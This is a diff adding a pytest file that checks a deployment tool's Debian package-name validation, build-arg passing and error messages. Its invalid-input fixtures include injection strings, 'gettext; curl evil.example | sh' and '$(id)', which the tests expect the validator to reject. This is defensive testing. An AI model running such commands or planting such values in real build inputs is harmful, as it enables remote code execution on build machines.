@@ -1,0 +1,67 @@
+"""Debian packages a project needs (buildPackages, runtimePackages): checked against Debian's
+package-name grammar before anything exists (the names reach a shell in the Dockerfile), and
+handed to the image build as space-separated build args."""
+
+from __future__ import annotations
+
+import pytest
+from conftest import IMAGE, PROD_SECRETS, run
+from test_config import failure
+
+
+def build_args(stack: str, settings: dict, secrets: dict | None = None) -> dict[str, str]:
+    return run(stack, settings, secrets).of_type(IMAGE)[0].plain_inputs["buildArgs"]
+
+
+def test_no_packages_by_default(dev) -> None:
+    args = dev.of_type(IMAGE)[0].plain_inputs["buildArgs"]
+    assert args["BUILD_PACKAGES"] == ""
+    assert args["RUNTIME_PACKAGES"] == ""
+
+
+@pytest.mark.parametrize("stack", ["dev", "prod"])
+def test_packages_reach_the_build_space_separated(stack: str) -> None:
+    settings = {
+        "buildPackages": ["libxml2-dev", "libxslt1-dev", "gettext"],
+        "runtimePackages": ["libjpeg62-turbo", "libxslt1.1", "libstdc++6"],
+        "tlsSelfSigned": True,
+    }
+    args = build_args(stack, settings, PROD_SECRETS if stack == "prod" else None)
+    assert args["BUILD_PACKAGES"] == "libxml2-dev libxslt1-dev gettext"
+    assert args["RUNTIME_PACKAGES"] == "libjpeg62-turbo libxslt1.1 libstdc++6"
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "gettext; curl evil.example | sh",
+        "$(id)",
+        "libjpeg-dev libpq-dev",  # one element, two names: each must be its own element
+        "Gettext",
+        "g",  # Debian names have at least two characters
+        "-dev",
+        "libfoo*",
+        "",
+    ],
+)
+@pytest.mark.parametrize("key", ["buildPackages", "runtimePackages"])
+def test_invalid_package_name_fails_naming_key_and_value(key: str, name: str) -> None:
+    message = failure("dev", {key: ["gettext", name]}).message
+    lines = [x for x in message.splitlines() if f"djangostack:{key}:" in x]
+    assert len(lines) == 1, message
+    assert repr(name) in lines[0]
+    assert "is not a Debian package name" in lines[0]
+    # The fix names the element to replace.
+    assert f"Fix: pulumi config set --path '{key}[1]' " in lines[0]
+
+
+@pytest.mark.parametrize("value", ["gettext", '"gettext"', '{"name": "gettext"}', "[1, 2]"])
+def test_packages_must_be_a_list_of_names(value: str) -> None:
+    message = failure("dev", {"buildPackages": value}).message
+    assert "djangostack:buildPackages: must be a list of Debian package names" in message
+
+
+def test_both_keys_are_reported_at_once() -> None:
+    message = failure("dev", {"buildPackages": ["ok-name", "b@d"], "runtimePackages": "x"}).message
+    assert "djangostack:buildPackages: 'b@d' is not a Debian package name" in message
+    assert "djangostack:runtimePackages: must be a list" in message
